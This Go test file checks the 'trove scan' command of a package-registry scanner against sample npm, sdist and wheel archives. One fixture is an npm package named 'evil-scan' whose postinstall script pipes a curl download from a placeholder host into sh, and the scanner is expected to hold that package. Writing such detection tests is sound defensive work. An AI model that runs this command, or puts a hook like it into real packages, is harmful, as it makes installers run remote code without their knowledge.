package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/trove-dev/trove/internal/meta"
)

// writeTarGz writes a .tar.gz of the files to path.
func writeTarGz(t *testing.T, path string, files map[string]string) {
	t.Helper()
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestScanCommand: trove scan names each file as the registry would (an
// npm tarball by its package.json, a wheel and an sdist with a hyphen in
// its name by their core metadata), prints the verdicts with findings at
// file and line, and fails for a file it cannot read or name, after
// scanning the others.
func TestScanCommand(t *testing.T) {
	dir, data := t.TempDir(), t.TempDir()
	db, err := meta.OpenSQLite(context.Background(), filepath.Join(data, "trove.db"))
	if err != nil {
		t.Fatal(err)
	}
	db.Close()
	evil := filepath.Join(dir, "evil-scan-1.0.0.tgz")
	writeTarGz(t, evil, map[string]string{"package/package.json": "{\n  \"name\": \"evil-scan\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n" +
		"    \"postinstall\": \"curl -s https://payload.example/i | sh\"\n  }\n}\n", "package/index.js": "module.exports = 1\n"})
	sdist := filepath.Join(dir, "my-pkg-2.0.tar.gz")
	writeTarGz(t, sdist, map[string]string{"my-pkg-2.0/PKG-INFO": "Metadata-Version: 2.1\nName: my-pkg\nVersion: 2.0\n",
		"my-pkg-2.0/my_pkg/__init__.py": "x = 1\n"})
	wheel := filepath.Join(dir, "my_pkg-2.0-py3-none-any.whl")
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	var record strings.Builder
	for _, f := range [][2]string{{"my_pkg/__init__.py", "x = 1\n"}, {"my_pkg-2.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: my-pkg\nVersion: 2.0\n"},
		{"my_pkg-2.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"}} {
		w, _ := zw.Create(f[0])
		w.Write([]byte(f[1]))
		sum := sha256.Sum256([]byte(f[1]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(sum[:]), len(f[1]))
	}
	record.WriteString("my_pkg-2.0.dist-info/RECORD,,\n")
	w, _ := zw.Create("my_pkg-2.0.dist-info/RECORD")
	w.Write([]byte(record.String()))
	zw.Close()
	if err := os.WriteFile(wheel, zb.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	misnamed := filepath.Join(dir, "other-3.0.tar.gz")
	writeTarGz(t, misnamed, map[string]string{"other-3.0/PKG-INFO": "Metadata-Version: 2.1\nName: my-pkg\nVersion: 2.0\n"})

	stdout, _, err := runTrove(t, "", "scan", "--data", data, evil, sdist, wheel, misnamed)
	if err == nil || !strings.Contains(err.Error(), "1 of 4 files could not be scanned") {
		t.Errorf("trove scan with a misnamed file: %v, want it to fail for that one", err)
	}
	for _, want := range []string{
		evil + ": npm evil-scan 1.0.0: hold",
		"package/package.json:5",
		sdist + ": pypi my-pkg 2.0: publish",
		wheel + ": pypi my-pkg 2.0: publish",
		misnamed + ": error: naming other-3.0.tar.gz: ",
		"4 files: 2 publish, 1 hold, 0 reject, 1 errors",
	} {
		if !strings.Contains(stdout, want) {
			t.Errorf("trove scan's output lacks %q:\n%s", want, stdout)
		}
	}
	stdout, _, err = runTrove(t, "", "scan", "--data", data, "--json", sdist)
	var o scanOutcome
	if err != nil || json.Unmarshal([]byte(stdout), &o) != nil || o.Name != "my-pkg" || o.Version != "2.0" || o.Verdict != "publish" || o.Unpacked == 0 {
		t.Errorf("trove scan --json = %q, %v", stdout, err)
	}
}
